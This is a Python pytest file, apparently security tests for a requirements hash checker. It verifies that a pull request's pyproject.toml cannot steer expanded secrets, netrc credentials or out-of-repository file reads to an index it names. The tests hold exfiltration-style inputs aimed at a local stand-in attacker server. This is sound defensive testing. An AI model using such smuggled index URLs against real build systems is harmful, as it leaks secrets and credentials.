"""The checked tree configures nothing it is trusted with (issue 18, class 1).

`[tool.reqhash-check]` in the checked tree's pyproject.toml is written by whoever opens the
pull request. Its indexes are used as a requirements file's would be, but they never count
as "named on the command line": they cannot make a host eligible for expanded values or
credentials, widen --allow-index, or name a place outside the repository to read.
"""

from __future__ import annotations

import base64
import hashlib
import json
from pathlib import Path

import pytest

from tests.hostile import HostileIndex
from tests.security.conftest import FORMATS, SECRET, pinned, run


@pytest.fixture(autouse=True)
def _no_pip_config(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The machine's own pip configuration stays out of these runs."""
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    for name in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "PIP_NO_INDEX"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("NETRC", str(tmp_path / "no-netrc"))


def _attacker_url(attacker: HostileIndex) -> str:
    return attacker.url.replace("127.0.0.1", "localhost")


def _sent(attacker: HostileIndex) -> str:
    return json.dumps(attacker.requests)


def test_an_index_the_tree_configures_never_receives_an_expanded_secret(
    repo: Path,
    hostile: HostileIndex,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Promise: trust-from-trusted-origins. The tree names a host in its configuration, then
    a requirements file sends `${SECRET}` there: the host is not "named on the command
    line", so the expanded URL is not contacted."""
    monkeypatch.setenv("SECRET_PATH", SECRET)
    with HostileIndex() as attacker:
        url = _attacker_url(attacker)
        (repo / "pyproject.toml").write_text(
            f'[tool.reqhash-check]\nextra-index-url = ["{url}/simple"]\n'
        )
        (repo / "r.txt").write_text(f"--extra-index-url {url}/${{SECRET_PATH}}/simple\n" + pinned())
        for fmt in FORMATS:
            result = run(capsys, "--index-url", hostile.simple_url, "--format", fmt, "r.txt")
            assert SECRET not in result.out + result.err, fmt
            assert result.code == 3, fmt
        assert attacker.requests, "the tree's own index is still used, as a file's would be"
        assert SECRET not in _sent(attacker)
        result = run(capsys, "--index-url", hostile.simple_url, "--format", "json", "r.txt")
        document = json.loads(result.out)
        assert "${SECRET_PATH}" in result.out and "not named on the command line" in result.out
        shown = {use["url"]: use for use in document["summary"]["indexes"]}
        assert shown[f"{url}/simple"]["path"] == "pyproject.toml"


def test_the_command_line_still_vouches_for_a_host(
    repo: Path,
    hostile: HostileIndex,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The same file, with the host named by --allow-index on the command line: the
    expanded URL is asked (the trust comes from the command line, not the tree)."""
    monkeypatch.setenv("SECRET_PATH", "some-path")
    with HostileIndex() as attacker:
        url = _attacker_url(attacker)
        (repo / "pyproject.toml").write_text(
            f'[tool.reqhash-check]\nextra-index-url = ["{url}/simple"]\n'
        )
        (repo / "r.txt").write_text(f"--extra-index-url {url}/${{SECRET_PATH}}/simple\n" + pinned())
        run(
            capsys,
            "--index-url",
            hostile.simple_url,
            "--allow-index",
            "localhost",
            "--allow-index",
            "127.0.0.1",
            "r.txt",
        )
        assert "/some-path/simple/demo/" in _sent(attacker)


def test_an_index_the_tree_configures_gets_no_credentials(
    repo: Path,
    tmp_path: Path,
    hostile: HostileIndex,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Promise: trust-from-trusted-origins. netrc's credentials for a host go to it only
    when the command line or pip's configuration names it, never because the tree does."""
    netrc = tmp_path / "netrc"
    netrc.write_text(f"machine localhost login robot password {SECRET}\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    token = base64.b64encode(f"robot:{SECRET}".encode()).decode()
    (repo / "r.txt").write_text(pinned())
    with HostileIndex() as attacker:
        url = _attacker_url(attacker)
        (repo / "pyproject.toml").write_text(f'[tool.reqhash-check]\nindex-url = "{url}/simple"\n')
        result = run(capsys, "--no-cache", "r.txt")
        assert attacker.requests and result.code == 0, result.out + result.err
        assert token not in _sent(attacker) and SECRET not in _sent(attacker)
        attacker.requests.clear()
        run(
            capsys, "--no-cache", "--index-url", f"{url}/simple", "r.txt"
        )  # the control: trusted, sent
        assert token in _sent(attacker)


def test_a_local_index_the_tree_configures_outside_the_repository_is_not_read(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Promise: trust-from-trusted-origins. `index-url = "file:///outside"` in the tree's
    configuration is a place outside the repository: not read, unless the command line
    says --allow-outside-includes."""
    private = b"private bytes"
    project = tmp_path / "outside" / "simple" / "demo"
    project.mkdir(parents=True)
    (project / "demo-1.0-py3-none-any.whl").write_bytes(private)
    outside = (tmp_path / "outside" / "simple").as_uri()
    (repo / "pyproject.toml").write_text(f'[tool.reqhash-check]\nindex-url = "{outside}"\n')
    (repo / "r.txt").write_text(pinned(digest=hashlib.sha256(private).hexdigest()))
    result = run(capsys, "--format", "json", "r.txt")
    assert result.code == 3, result.out + result.err
    document = json.loads(result.out)
    assert any("outside the repository" in u["reason"] for u in document["unverified"])
    assert document["summary"]["indexes"][0]["contacted"] is False
    result = run(capsys, "--allow-outside-includes", "r.txt")
    assert result.code == 0, result.out + result.err  # read when the command line allows it


@pytest.mark.parametrize(
    "line",
    [
        'allow-index = ["localhost"]',
        "allow-outside-includes = true",
        'find-links = ["/"]',
        "no-index = true",
        "isolated = true",
    ],
)
def test_the_tree_cannot_set_a_trust_option(
    repo: Path, capsys: pytest.CaptureFixture[str], line: str
) -> None:
    """Promise: trust-from-trusted-origins. Trust options are not keys of the table: the
    tree cannot set them; it is one clear line and exit 2."""
    (repo / "pyproject.toml").write_text(f"[tool.reqhash-check]\n{line}\n")
    (repo / "r.txt").write_text(pinned())
    result = run(capsys, "r.txt")
    assert result.code == 2
    assert "unknown key" in result.err and len(result.err.strip().splitlines()) == 1


def test_a_lock_file_check_does_not_read_a_local_index_the_tree_configures(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The lock-file path takes its indexes from the same configuration, with the same
    origins: the tree's file:// index outside the repository is not read for it either."""
    private = b"private bytes"
    project = tmp_path / "outside" / "simple" / "demo"
    project.mkdir(parents=True)
    (project / "demo-1.0-py3-none-any.whl").write_bytes(private)
    outside = (tmp_path / "outside" / "simple").as_uri()
    digest = hashlib.sha256(private).hexdigest()
    (repo / "pyproject.toml").write_text(f'[tool.reqhash-check]\nindex-url = "{outside}"\n')
    (repo / "pylock.toml").write_text(
        'lock-version = "1.0"\ncreated-by = "test"\n\n[[packages]]\nname = "demo"\n'
        'version = "1.0"\n\n[[packages.wheels]]\nname = "demo-1.0-py3-none-any.whl"\n'
        'url = "https://files.example/demo-1.0-py3-none-any.whl"\n'
        f'hashes = {{sha256 = "{digest}"}}\n'
    )
    result = run(capsys, "--format", "json", "pylock.toml")
    assert result.code == 3, result.out + result.err
    assert "outside the repository" in result.out
